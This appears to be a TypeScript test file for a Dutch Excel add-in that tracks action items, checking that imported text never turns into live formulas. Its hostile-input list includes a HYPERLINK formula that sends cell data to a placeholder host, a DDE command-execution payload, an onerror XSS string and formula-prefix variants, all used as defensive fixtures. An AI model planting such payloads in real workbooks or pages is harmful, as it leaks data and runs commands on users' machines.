import fc from "fast-check";
import { madeSheets } from "../../src/domain/sheets";
import type { CellValue } from "../../src/domain/values/cell-value";
import { startExcel, type EmbeddedExcel } from "../../src/embedded-excel";
import { loadWorkbook } from "../../src/embedded-excel/xlsx/load";
import {
  applyImport,
  keptActions,
  makeSheets,
  previewImport,
  saveSettings,
  setUp,
  turnBack,
  writeReport,
} from "../../src/excel";
import { constantInput } from "../../src/excel/cell-input";
import { closeWorkbooks, edit, measured, openWorkbook, today } from "./workbook";

afterEach(closeWorkbooks);

/** In every hostile text, so that it is found wherever it went. */
const MARK = "KWAAD";

const starts = ["=", "+", "-", "@", "'", "''", "#", "\t=", "\r=", "\n=", " =", "\u0001=", "＝", "＋", "－", "＠", "﹦"];
const wholes = [
  `=HYPERLINK("http://voorbeeld.invalid/?"&A1,"${MARK}")`,
  `=cmd|' /C calc'!${MARK}`,
  `<img src=x onerror="${MARK}">`,
  `javascript:${MARK}`,
  `&P &[Pad] ${MARK}`,
  `${MARK} {peildatum} [@Nr] "aanhaling" ~*?`,
  `>${MARK}`,
  `__proto__ ${MARK}`,
];
const hostile = [...starts.map((start) => `${start}1+1&"${MARK}"`), ...wholes];

/** Contents of every cell of the workbook, and of every name, that mention a hostile text in a formula. */
const hostileFormulas = ({ workbook }: EmbeddedExcel): string[] => [
  ...workbook.sheets.flatMap((sheet) =>
    [...sheet.cells.entries()].flatMap(([, , { formula }]) =>
      formula?.includes(MARK) === true ? [`${sheet.name}: ${formula}`] : [],
    ),
  ),
  ...workbook.names.flatMap(({ formula }) => (formula.includes(MARK) ? [formula] : [])),
];

const columnOf = (embedded: EmbeddedExcel, sheet: string, header: string): CellValue[] => {
  const cells = embedded.workbook.sheets.find(({ name }) => name === sheet)?.cells;
  const found: CellValue[] = [];
  if (!cells) return found;
  const [headerRow = 0, column = 0] = [...cells.entries()].find(([, , { value }]) => value === header) ?? [];
  for (const [row, at, { value }] of cells.entries())
    if (at === column && row > headerRow && typeof value === "string") found.push(value);
  return found;
};

describe("a hostile text", () => {
  it("stays the text it is in the registers, the settings, the report, the made sheets and Terugdraaien", async () => {
    const embedded = await openWorkbook();
    await measured(embedded, () => setUp(today));
    const rows = hostile.map((text, at) => [
      `AP-${String(at + 1).padStart(3, "0")}`,
      text,
      "Motie",
      "College",
      text,
      "Basis op orde",
      "Loopt",
      "Rood",
      text,
      text,
    ]);
    const headers = ["Nr", "Actiepunt", "Bron", "Actor", "Verantwoordelijke", "Prioriteitsklasse", "Status", "Tijd"];
    const list = {
      name: "lijst.csv",
      cells: [[...headers, "Oorzaak", "Bijsturing"], ...rows],
      firstRow: 1,
      firstColumn: 0,
    };
    const { result: preview } = await measured(embedded, () => previewImport(list, "Actiepunten", new Map(), today));
    expect(preview.plan.refusals).toEqual([]);
    await measured(embedded, () => applyImport(list, preview.plan, preview.plan.additions));
    const held = preview.plan.additions.map(({ title }) => title);
    expect(held.map((text) => text.replace("\r", "\n"))).toEqual(
      hostile.map((text) => text.replaceAll("\u0001", "").replace("\r", "\n").trim()),
    );
    expect(columnOf(embedded, "Actiepunten", "Actiepunt")).toEqual(held);

    await measured(embedded, () => saveSettings([{ key: "Gemeente", from: "", to: `=${MARK}` }]));
    // From one hostile text to another: the way back keeps both.
    const turned = [...held.slice(1), held[0] ?? ""];
    const other = {
      ...list,
      cells: [["Nr", "Actiepunt"], ...turned.map((text, at) => [rows[at]?.[0] ?? "", text])],
    };
    const { result: again } = await measured(embedded, () => previewImport(other, "Actiepunten", new Map(), today));
    await measured(embedded, () => applyImport(other, again.plan, again.plan.changes));
    expect(columnOf(embedded, "Actiepunten", "Actiepunt")).toEqual(turned);
    await measured(embedded, () => writeReport(today, "1.0.0"));
    await measured(embedded, () => makeSheets(madeSheets, today, "1.0.0"));
    expect(hostileFormulas(embedded)).toEqual([]);

    const { result: actions } = await measured(embedded, () => keptActions());
    await measured(embedded, () => turnBack(actions[0]?.id ?? ""));
    expect(columnOf(embedded, "Actiepunten", "Actiepunt")).toEqual(held);
    expect(hostileFormulas(embedded)).toEqual([]);

    const reopened = await startExcel(loadWorkbook(embedded.save()));
    expect(columnOf(reopened, "Actiepunten", "Actiepunt")).toEqual(held);
    expect(hostileFormulas(reopened)).toEqual([]);
    reopened.close();
  });
});

describe("any text", () => {
  it("is, written as a constant, exactly that text and no formula, also in the saved file", async () => {
    const embedded = await openWorkbook();
    const texts = fc
      .sample(
        fc.oneof(
          fc.string({ unit: "grapheme" }),
          fc.string({ unit: "binary" }),
          fc.tuple(fc.constantFrom(...starts), fc.string()).map((parts) => parts.join("")),
          fc
            .tuple(fc.constantFrom("1", "-", "€ ", "1-", "TRUE", "1e"), fc.constantFrom("", "5", "-2021", "%"))
            .map((p) => p.join("")),
        ),
        { numRuns: 2_000, seed: 20_210_930 },
      )
      .filter((text) => text !== "");
    await edit(embedded, (context) => {
      const range = context.workbook.worksheets.getItem("Blad1").getRangeByIndexes(0, 0, texts.length, 1);
      range.formulas = texts.map((text) => [constantInput(text)]);
    });
    const cellsIn = ({ workbook }: EmbeddedExcel) => texts.map((_, row) => workbook.sheets[0]?.cells.get(row, 0));
    expect(cellsIn(embedded).map((cell) => [cell?.value, cell?.formula])).toEqual(texts.map((text) => [text, null]));
    const reopened = await startExcel(loadWorkbook(embedded.save()));
    expect(cellsIn(reopened).map((cell) => [cell?.value, cell?.formula])).toEqual(texts.map((text) => [text, null]));
    reopened.close();
  });
});
